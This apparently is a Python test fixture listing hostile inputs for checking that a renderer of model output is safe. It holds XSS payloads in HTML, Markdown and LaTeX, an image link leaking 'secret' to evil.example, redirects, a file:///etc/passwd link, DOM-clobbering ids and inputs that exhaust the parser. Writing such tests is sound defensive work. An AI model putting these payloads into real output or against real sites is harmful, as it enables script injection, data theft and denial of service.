"""What a model might write to harm its reader: scripts in every guise, addresses, and loads to break under.

Each would set window.hit if it ran.
"""

RUN = "window.hit = true"
HOSTILE = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror='{RUN}'>",
    f"<svg onload='{RUN}'><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe><object data='/metrics'></object>",
    f"<details open ontoggle='{RUN}'>x</details><input autofocus onfocus='{RUN}'>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<form action='javascript:{RUN}'><button name=getElementById id=prompt>x</button></form>",
    "<style>* { display: none }</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    f"[link](javascript:{RUN}) [link](JaVaScRiPt:{RUN}) [link](java\nscript:{RUN}) [a](&#106;avascript:{RUN})",
    f"[link](data:text/html,<script>{RUN}</script>) [link](vbscript:x) [link](file:///etc/passwd) [link](//evil.org)",
    f'[link](https://ok.example "title\\" onmouseover=\\"{RUN}") <https://ok.example/" onclick="{RUN}>',
    f"![secret](https://evil.example/?q=secret) ![x](data:image/svg+xml,<svg onload='{RUN}'/>) ![x](/metrics)",
    f"[ref]: javascript:{RUN}\n\n[ref] and [ref][ref]",
    f'```" onclick="{RUN}\n<img src=x onerror={RUN}>\n```',
    f"```html\n<script>{RUN}</script><img src=x onerror={RUN}>\n```",
    f"~~~python'><img src=x onerror={RUN}>\n'\"><script>{RUN}</script>\n~~~",
    f"| <img src=x onerror={RUN}> | b |\n|:--|--:|\n| `<b onclick={RUN}>` | [x](javascript:{RUN}) |",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $\\htmlData{{x=1}}{{y}}$ $\\includegraphics{{https://evil.example/x.png}}$",
    f"$$\n\\url{{javascript:{RUN}}} <img src=x onerror={RUN}>\n$$",
    "$\\def\\a{\\a\\a}\\a$ $\\rule{1000000em}{1000000em}$ $\\htmlStyle{position:fixed}{x}$ $\\htmlId{prompt}{x}$",
    "\\[ \\begin{matrix}" + "{" * 300 + " \\]",
    "> " * 200 + "deep",
    "- " * 200 + "deep",
    "[" * 2000 + "](" * 2000,
    "*_" * 2000 + "`" * 999,
    "$a " * 3000,
    "\u202ereversed\u202c \u0000 \ufffd \ud83d",
    "<a id=messages name=body>x</a><h2 id=status>y</h2>",
]
